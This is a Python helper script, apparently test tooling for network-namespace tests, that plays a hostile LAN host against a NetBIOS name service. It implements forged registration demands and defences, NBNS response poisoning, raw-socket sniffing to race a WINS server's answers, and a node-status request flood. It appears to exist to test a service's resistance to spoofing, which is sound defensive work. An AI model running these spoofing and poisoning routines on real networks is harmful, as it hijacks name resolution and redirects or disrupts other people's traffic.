#!/usr/bin/env python3
# A hostile LAN host's NetBIOS name-service packets, built byte by byte
# from RFC 1002 (§4.2.1 header, §4.2.1.2 question, §4.2.1.3 records), for
# tests/netns/ns-attack.sh. Runs as root in the attacker's namespace.
#
#   demand TARGET NAME                 conflict demand 0xAD87 (§4.2.8) and
#                                      forged defences 0xAD86 (§4.2.6)
#   poison TARGET NAME IP COUNT        unsolicited positive query responses
#                                      0x8500 (§4.2.13), TRN_IDs 0..COUNT-1
#   sniff-wins ASKER WINS NAME IP OUT SECS
#                                      watch the LAN (AF_PACKET) for ASKER's
#                                      unicast query for NAME to WINS and
#                                      answer it ourselves, right TRN_ID and
#                                      name, our own source address; OUT
#                                      gets "ready", then one line per answer
#   status-flood TARGET N SECS OUT     N node-status requests (§4.2.17) over
#                                      SECS seconds from one socket; OUT
#                                      gets the number of answers
#   listen138 OUT                      append each UDP 138 payload (hex)
import os, random, socket, struct, sys, time


def encode_name(name, suffix):
    # First-level encoding [RFC 1001 §14.1]: 16 bytes, each nibble + 'A'.
    raw = name.upper().ljust(15).encode()[:15] + bytes([suffix])
    out = bytes([32])
    for b in raw:
        out += bytes([ord("A") + (b >> 4), ord("A") + (b & 15)])
    return out + b"\0"


def decode_name(enc):
    # The first-level name at enc (34 bytes), as "NAME<xx>"; None if not.
    if len(enc) < 34 or enc[0] != 32 or \
            any(not 65 <= c <= 80 for c in enc[1:33]):
        return None
    raw = bytes((enc[1 + 2 * i] - 65) << 4 | (enc[2 + 2 * i] - 65)
                for i in range(16))
    return "%s<%02x>" % (raw[:15].decode("latin-1").rstrip(), raw[15])


def header(trn, flags, qd, an, ns, ar):
    return struct.pack(">HHHHHH", trn, flags, qd, an, ns, ar)


def nb_record(ename, ttl, ip, nb_flags=0):
    # RR: name, type NB (0x20), class IN, TTL, RDLENGTH 6, NB_FLAGS, address.
    return ename + struct.pack(">HHIHH", 0x20, 1, ttl, 6, nb_flags) + \
        socket.inet_aton(ip)


def reg_response(trn, rcode, ename, ip):
    # 0xAD80 | rcode: response, opcode 5, AA RD RA [§4.2.6, §4.2.8].
    return header(trn, 0xAD80 | rcode, 0, 1, 0, 0) + nb_record(ename, 0, ip)


def query_response(trn, ename, ip, ttl=300000):
    # 0x8500: response, opcode 0, AA RD [§4.2.13].
    return header(trn, 0x8500, 0, 1, 0, 0) + nb_record(ename, ttl, ip)


def sock137():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 137))
    return s


def demand(target, name):
    n, sfx = name.split("<") if "<" in name else (name, "00>")
    e = encode_name(n, int(sfx[:2], 16))
    s = sock137()
    s.sendto(reg_response(0x1234, 7, e, "198.18.0.3"), (target, 137))
    for _ in range(16):  # forged defences with TRN_IDs we cannot know
        s.sendto(reg_response(random.randrange(65536), 6, e, "198.18.0.3"),
                 (target, 137))


def poison(target, name, ip, count):
    e = encode_name(name, 0)
    s = sock137()
    for trn in range(int(count)):
        s.sendto(query_response(trn, e, ip), (target, 137))


def sniff_wins(asker, wins, name, ip, out, secs):
    want = "%s<00>" % name.upper()
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                        socket.ntohs(0x0800))
    raw.bind(("eth0", 0))
    raw.settimeout(0.2)
    reply = sock137()
    a, w = socket.inet_aton(asker), socket.inet_aton(wins)
    with open(out, "w") as f:
        f.write("ready\n")
    end = time.time() + float(secs)
    while time.time() < end:
        try:
            frame = raw.recv(4096)
        except socket.timeout:
            continue
        ip4 = frame[14:]
        if len(ip4) < 20 or ip4[9] != 17 or ip4[12:16] != a or \
                ip4[16:20] != w:
            continue
        udp = ip4[(ip4[0] & 15) * 4:]
        sport, dport = struct.unpack(">HH", udp[:4])
        nbns = udp[8:]
        if dport != 137 or len(nbns) < 12 + 34:
            continue
        trn, flags = struct.unpack(">HH", nbns[:4])
        if flags & 0x8000 or decode_name(nbns[12:46]) != want:
            continue
        # The query we saw go to the WINS server: answer it first, from
        # here (the attacker cannot be the WINS server's address, only
        # faster than it).
        reply.sendto(query_response(trn, nbns[12:46], ip), (asker, sport))
        with open(out, "a") as f:
            f.write("answered 0x%04x port %d\n" % (trn, sport))


def answers_within(s, secs, pause):
    """Counts the datagrams the non-blocking socket s receives in secs,
    polling every pause seconds."""
    got = 0
    t = time.time() + secs
    while time.time() < t:
        try:
            s.recv(2048)
            got += 1
        except BlockingIOError:
            time.sleep(pause)
    return got


def status_flood(target, n, secs, out):
    star = bytes([32]) + b"CK" + b"AA" * 15 + b"\0"  # "*" + 15 NULs
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    s.setblocking(False)
    got = 0
    n, gap = int(n), float(secs) / int(n)
    for i in range(n):
        # Node status request [§4.2.17]: 0x0000, "*", NBSTAT (0x21), IN.
        s.sendto(header(0x7000 + i, 0, 1, 0, 0, 0) + star +
                 struct.pack(">HH", 0x21, 1), (target, 137))
        got += answers_within(s, gap, 0.001)
    got += answers_within(s, 0.5, 0.01)  # the last answers in flight
    with open(out, "w") as f:
        f.write("%d\n" % got)


def listen138(out):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 138))
    while True:
        p, _ = s.recvfrom(65535)
        with open(out, "a") as f:
            f.write(p.hex() + "\n")


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    {"demand": demand, "poison": poison, "sniff-wins": sniff_wins,
     "status-flood": status_flood, "listen138": listen138}[cmd](*args)
